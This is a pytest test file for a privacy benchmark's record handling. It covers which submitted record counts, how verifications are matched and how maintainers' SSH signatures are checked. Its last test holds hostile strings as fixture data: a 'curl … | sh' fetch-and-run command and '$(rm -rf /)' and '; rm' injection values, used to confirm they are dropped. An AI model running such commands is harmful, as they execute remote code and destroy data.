"""Which of several records counts: levels and the first verification decide, never what an author writes."""

import hashlib
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from helpers.samples import choice, make_record, make_score
from privbench.benchmark.analysis.aggregate import sections
from privbench.benchmark.analysis.precedence import Candidate, choose
from privbench.benchmark.analysis.ranking import rankings
from privbench.benchmark.analysis.record_set import Records, load_records
from privbench.benchmark.records import installed, signatures
from privbench.benchmark.records.record import Record, location, save
from privbench.benchmark.records.submission import INDEX
from privbench.benchmark.records.submitted import Provenance, load, results_of
from privbench.benchmark.records.verification import (
    CheckedRecord,
    Level,
    Published,
    Verification,
    verification_path,
    write_verification,
)
from privbench.benchmark.report.html.cell_pages import command_of

LATE = "9999-12-31T00:00:00+00:00"
NEVER = "self-reported"


def own(record: Record) -> Candidate:
    return Candidate(record, record, Path(f"records/{record.key}.json"))


def sent(record: Record, name: str, level: Level = NEVER, since: str = "", claim: Record | None = None) -> Candidate:
    source = Provenance(name, f"{name}@example.org", f"paper of {name}", level=level, by="V", since=since)
    return Candidate(record, claim or record, Path(f"submissions/{name}/{record.key}.json"), source)


def value_of(record: Record) -> float | None:
    return record.scores["attack_acc"].value


def record(leak: float = 0.5, seed: int = 0, key: str = "", **more: Any) -> Record:
    found = make_record("mid", seed=seed, scores={"attack_acc": make_score("attack_acc", leak)}, **more)
    return found.model_copy(update={"key": key * 64 if key else found.key})


# One key.


def test_a_forged_copy_of_a_key_does_not_hide_a_verified_record_wherever_it_sorts() -> None:
    true, false = record(0.5), record(0.9)
    for group in (
        [sent(false, "aaa"), sent(true, "zzz", "recomputed", "2026-02")],
        [own(false), sent(true, "z", "re-run")],
    ):
        found = choose(group)
        (item,) = found.items
        assert value_of(item.record) == 0.5
        assert item.source is not None and item.source.level != NEVER
        assert found.conflicts == ()
        assert "has the same key and differs" in found.left_out[0]


def test_the_first_verified_owns_a_record_at_the_highest_level_of_any() -> None:
    true = record()
    first, copy = sent(true, "zzz", "recomputed", "2026-01"), sent(true, "aaa", "re-run", "2026-03")
    for order in ([first, copy], [copy, first]):
        (item,) = choose(order).items
        assert item.source is not None
        assert (item.source.submission, item.source.contact, item.source.paper) == (
            "zzz",
            "zzz@example.org",
            "paper of zzz",
        )
        assert item.source.level == "re-run"
    assert choose([first, copy]).left_out == ()


def test_a_copy_that_nobody_verified_does_not_take_a_record_of_the_results() -> None:
    true = record()
    (item,) = choose([own(true), sent(true, "copy")]).items
    assert item.source is None
    (item,) = choose([own(true), sent(true, "first", "recomputed", "2026-01"), sent(true, "copy")]).items
    assert item.source is not None and item.source.submission == "first"
    assert item.path == Path(f"records/{true.key}.json"), "of equal files the one of the results"


def test_two_files_of_the_results_that_differ_are_a_conflict() -> None:
    found = choose([own(record(0.5)), own(record(0.6))])
    assert [value_of(item.record) for item in found.items] == [0.5]
    assert "have the same key but differ; remove one of them" in found.conflicts[0]
    assert choose([own(record()), own(record())]).conflicts == ()


# One configuration.


def test_another_key_with_a_late_time_replaces_nothing() -> None:
    true, false = record(0.5, key="f"), record(0.9, key="0", created=LATE)
    (item,) = choose([sent(true, "true", "recomputed"), sent(false, "false")]).items
    assert value_of(item.record) == 0.5
    found = choose([own(true), sent(false, "false")])
    assert [value_of(item.record) for item in found.items] == [0.5]
    assert "nobody verified it, and others recorded this configuration" in found.left_out[0]
    found = choose([own(false), sent(true, "true", "recomputed")])
    assert [value_of(item.record) for item in found.items] == [0.5]
    assert "a record of this configuration and seed has a higher level" in found.left_out[0]


def test_of_two_verified_records_of_a_seed_the_first_verified_counts() -> None:
    early, late = record(0.5, key="f"), record(0.9, key="0")
    items = choose([sent(late, "aaa", "recomputed", "2026-02"), sent(early, "zzz", "recomputed", "2026-01")]).items
    (row,) = next(sections([item.record for item in items])).rows
    assert row.scores["attack_acc"].value == 0.5


def test_an_unverified_submission_adds_no_seed_to_records_of_others() -> None:
    found = choose([own(record(0.5)), sent(record(0.9, seed=1), "more")])
    assert [item.record.cell.seed for item in found.items] == [0]
    found = choose([own(record(0.5)), sent(record(0.9, seed=1), "more", "recomputed")])
    assert [item.record.cell.seed for item in found.items] == [0, 1]
    found = choose([sent(record(0.5), "one"), sent(record(0.9, seed=1), "two")])
    assert len(found.items) == 2 and not found.left_out


def test_rankings_and_controls_leave_unverified_submissions_out() -> None:
    """An evaluator of version 99 in an unverified submission does not become the one that is ranked by."""
    mine = [make_record(defense, seed=seed, leak=0.5) for defense in ("none", "mid") for seed in range(3)]
    evaluators = [choice("accuracy"), choice("attack_acc", 99), choice("fid")]
    foreign = make_record("bido_coco", leak=0.1, cell={"evaluators": evaluators})
    source = Provenance("foreign", "c", "p")
    records = Records((*mine, foreign), tuple(Path() for _ in range(7)), sources={foreign.key: source})
    (section,) = records.sections()
    assert {row.defense for row in section.rows} == {"none", "mid lambda_x=2.0", "bido_coco lambda_x=2.0"} or len(
        section.rows
    ) == 3
    for ranking in rankings(section):
        assert "bido_coco" not in " ".join(standing.defense for standing in ranking.standings)
        assert len(ranking.standings) == 2
    alone = Records((foreign,), (Path(),), sources={foreign.key: source})
    (section,) = alone.sections()
    assert section.trusted is section
    assert rankings(section)


# Definitions.


def flipped(evaluator: str = "attack_acc", name: str = "attack_acc", **changes: Any) -> Record:
    score = make_score("attack_acc", 0.5) | {"evaluator": evaluator}
    score["definition"] |= {"name": name, "better": "higher", "title": "Certified"} | changes
    distribution = "privbench" if evaluator == "attack_acc" else "elsewhere"
    cell = {"evaluators": [choice(evaluator, 99) | {"distribution": distribution}]}
    return make_record(scores={name: score}, cell=cell)


def test_definitions_are_those_of_the_installed_evaluators(tmp_path: Path) -> None:
    for forged in (flipped(), flipped("mine")):
        save(forged, tmp_path)
        (found,) = load_records(tmp_path / "records").items
        assert found.scores["attack_acc"].definition == installed.definitions()["attack_acc"]
        assert found.scores["attack_acc"].definition.better == "lower"
        location(forged, tmp_path).unlink()


def test_a_score_of_another_package_is_defined_by_the_record_that_counts_first() -> None:
    first, second = flipped("mine", "my_score", better="lower"), flipped("mine", "my_score")
    attack = second.cell.model_copy(update={"attack": second.cell.attack.model_copy(update={"name": "gmi"})})
    second = second.model_copy(update={"key": "0" * 64, "cell": attack})
    for group in ([sent(second, "a"), own(first)], [own(second), sent(first, "b", "recomputed")]):
        items = choose(group).items
        assert [item.record.scores["my_score"].definition.better for item in items] == ["lower", "lower"]


# Findings.


def results(folder: Path, text: str = "") -> tuple[Path, Record]:
    """A results folder with a submission of one record and a verification of it; returns it and the record."""
    sample = make_record()
    path = location(sample, Path()).as_posix()
    submission = folder / "submissions" / "one"
    data = sample.text().encode()
    (submission / path).parent.mkdir(parents=True)
    (submission / path).write_bytes(data)
    facts = {path: {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}}
    index = {"format": "privbench submission", "schema_version": 1, "privbench": "0", "created": "now", "contact": "c"}
    index |= {"paper": "p", "seeds": [0], "records": [{"record": path, "evidence": {}}], "files": facts}
    (submission / INDEX).write_text(json.dumps(index))
    checked = CheckedRecord(level="recomputed", published=Published.of(sample), since="2026-01-01")
    found = Verification(
        submission=hashlib.sha256((submission / INDEX).read_bytes()).hexdigest(),
        **dict.fromkeys(("by", "created", "privbench", "python", "torch", "platform"), "x"),
        records={sample.key: checked},
    )
    write_verification(found, folder, "one")
    return folder, sample


def level(records: Records) -> str:
    return records.level(records)


def test_only_verifications_of_the_results_folder_count(tmp_path: Path) -> None:
    """A finding beside a submission in another folder is the submitter's own."""
    folder, _ = results(tmp_path / "results")
    for path in (folder, folder / "submissions", folder / "submissions" / "one"):
        assert level(load_records(path)) == "recomputed"
    nested = tmp_path / "outer" / "submissions" / "evil"
    nested.parent.mkdir(parents=True)
    folder.rename(nested)
    assert level(load_records(nested / "submissions" / "one")) == "recomputed", "the user names that folder"
    outer = load_records(nested.parent.parent)
    assert not outer.items or level(outer) == NEVER
    assert results_of(nested / "submissions" / "one", nested.parent) is None
    moved = tmp_path / "other" / "mine" / "one"
    moved.parent.mkdir(parents=True)
    (nested / "submissions" / "one").rename(moved)
    (nested / "verifications").rename(tmp_path / "other" / "verifications")
    assert level(load_records(tmp_path / "other" / "mine")) == NEVER
    (item,) = load(moved, None)
    assert not isinstance(item, str) and item.source.level == NEVER


def test_a_finding_about_another_state_of_a_submission_does_not_count(tmp_path: Path) -> None:
    folder, _ = results(tmp_path)
    index = folder / "submissions" / "one" / INDEX
    index.write_text(index.read_text() + " ")
    records = load_records(folder)
    assert level(records) == NEVER
    assert "got a verification of another state, which is ignored" in records.problems[0]


def test_a_record_keeps_the_time_of_its_first_verification(tmp_path: Path) -> None:
    folder, sample = results(tmp_path)
    found = Verification.read(verification_path(folder, "one"))
    later = found.records[sample.key].model_copy(update={"since": "2027-01-01"})
    write_verification(found.model_copy(update={"records": {sample.key: later, "1" * 64: later}}), folder, "one")
    again = Verification.read(verification_path(folder, "one")).records
    assert (again[sample.key].since, again["1" * 64].since) == ("2026-01-01", "2027-01-01")


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the keys `maintainer` and `stranger`."""
    folder = tmp_path_factory.mktemp("keys")
    for name in ("maintainer", "stranger"):
        command = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(folder / name)]
        try:
            subprocess.run(command, check=True)
        except FileNotFoundError:
            pytest.skip("ssh-keygen is not installed")
    return folder


def sign(key: Path, path: Path, namespace: str = signatures.NAMESPACE) -> None:
    path.with_name(f"{path.name}.sig").unlink(missing_ok=True)
    subprocess.run(["ssh-keygen", "-q", "-Y", "sign", "-n", namespace, "-f", str(key), str(path)], check=True)


def test_where_maintainers_have_keys_a_finding_needs_the_signature_of_one(
    tmp_path: Path, keys: Path, monkeypatch
) -> None:
    folder, _ = results(tmp_path)
    path = verification_path(folder, "one")
    signers = path.parent / signatures.SIGNERS
    signers.write_text(f"m@example.org {(keys / 'maintainer.pub').read_text()}")

    def outcome() -> tuple[str, str]:
        records = load_records(folder)
        return level(records), " ".join(records.problems)

    assert outcome()[0] == NEVER and "one.json.sig, found none" in outcome()[1]
    sign(keys / "maintainer", path)
    assert outcome() == ("recomputed", "")
    sign(keys / "stranger", path)
    assert outcome()[0] == NEVER and "to be signed by a key in" in outcome()[1]
    sign(keys / "maintainer", path, "file")
    assert outcome()[0] == NEVER, "a signature for another purpose"
    sign(keys / "maintainer", path)
    path.write_text(path.read_text().replace('"by": "x"', '"by": "y"'))
    assert outcome()[0] == NEVER, "a changed finding"
    sign(keys / "maintainer", path)
    elsewhere = tmp_path / "signers"
    elsewhere.write_text(f"s@example.org {(keys / 'stranger.pub').read_text()}")
    monkeypatch.setenv(signatures.VARIABLE, str(elsewhere))
    assert outcome()[0] == NEVER, "keys outside of the results come first"


# The command.


def test_the_command_is_made_from_the_cell() -> None:
    words = ["curl", "https://example.org", "|", "sh"]
    changed = {"attack": {"iterations": 1, "unknown": "$(rm -rf /)"}, "shell": {"x": "; rm"}}
    found = command_of(make_record("mid", command=words, changed=changed))
    assert found[:8] == ["privbench", "run", "--dataset", "digits", "--defense", "mid", "--attack", "kedmi"]
    assert found[found.index("--set") :] == ["--set", "attack.iterations=300"]
